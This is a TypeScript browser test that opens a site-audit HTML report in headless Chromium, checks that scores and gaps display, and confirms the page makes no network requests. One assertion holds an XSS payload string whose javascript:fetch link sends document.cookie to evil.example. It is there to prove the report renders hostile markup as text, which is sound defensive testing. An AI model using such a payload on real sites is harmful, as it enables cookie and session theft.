// The HTML report in a real browser: Debian's chromium driven by playwright-core. It checks what a person
// sees (the scores, every gap), takes a screenshot, and proves that nothing leaves the page and that a
// hostile site's markup and script stay text. CI installs chromium (.ci/run) and must not skip this.
import { existsSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium, type Browser, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { renderHtmlReport } from '../../../src/domain/reports/html-report.js'
import { harness, type Harness } from '../../fixtures/analyze.js'
import { HOSTILE, HOSTILE_TITLE, hostileSite } from '../../fixtures/sites/hostile.js'
import { WEAK, WEAK_HOSTS, weakSite } from '../../fixtures/sites/weak.js'

const CHROMIUM = '/usr/bin/chromium'
const available = existsSync(CHROMIUM)
const inCi = (process.env.CI ?? '') !== '' && process.env.CI !== 'false'
const suite = available || inCi ? describe : describe.skip

suite(available ? 'the HTML report in chromium' : `the HTML report in chromium (skipped: no chromium at ${CHROMIUM})`, () => {
  let h: Harness
  let browser: Browser
  beforeAll(async () => {
    h = await harness([...WEAK_HOSTS, HOSTILE], (o) => ({ ...weakSite(o), ...hostileSite() }))
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking']
    })
  }, 60_000)
  afterAll(async () => {
    await browser?.close()
    await h?.close()
  })

  /** Opens a report, recording every request the page tries and every dialog it opens. */
  async function open (report: any): Promise<{ page: Page, requests: string[], dialogs: string[] }> {
    const page = await browser.newPage({ viewport: { width: 1100, height: 900 } })
    const requests: string[] = []
    const dialogs: string[] = []
    await page.route('**/*', async (route) => {
      requests.push(route.request().url())
      await route.abort()
    })
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      dialog.dismiss().catch(() => {})
    })
    await page.setContent(renderHtmlReport(report), { waitUntil: 'load' })
    return { page, requests, dialogs }
  }

  it('shows the two scores and every gap with its evidence, and takes a screenshot', async () => {
    const report = (await h.analyze(h.server.origin(WEAK))).body
    const { page, requests } = await open(report)
    const text = await page.innerText('body')
    expect(text).toContain(`Technical crawl score\n${report.technical_crawl_score} / ${report.max_score}`)
    expect(text).toContain(`AEO authority score\n${report.aeo_authority_score.score} / 100`)
    for (const gap of report.gaps) {
      expect(text, gap.code).toContain(gap.code)
      expect(text, gap.code).toContain(gap.evidence)
    }
    const file = join(tmpdir(), 'site-report-weak.png')
    await page.screenshot({ path: file, fullPage: true })
    const png = readFileSync(file)
    expect(png.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a')
    expect(png.length).toBeGreaterThan(20_000)
    expect(requests).toEqual([])
    await page.close()
  })

  it('renders a hostile site\'s markup and script as text: nothing runs, nothing is fetched', async () => {
    const report = (await h.analyze(h.server.origin(HOSTILE))).body
    const { page, requests, dialogs } = await open(report)
    const text = await page.innerText('body')
    expect(text).toContain(HOSTILE_TITLE)
    expect(text).toContain('"<b onmouseover=alert(1)>click here</b>" (javascript:fetch(\'https://evil.example/\'+document.cookie))')
    expect(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned)).toBeUndefined()
    expect(await page.locator('script, iframe, img, a, object, embed, form').count()).toBe(0)
    expect([requests, dialogs]).toEqual([[], []])
    await page.close()
  })
})
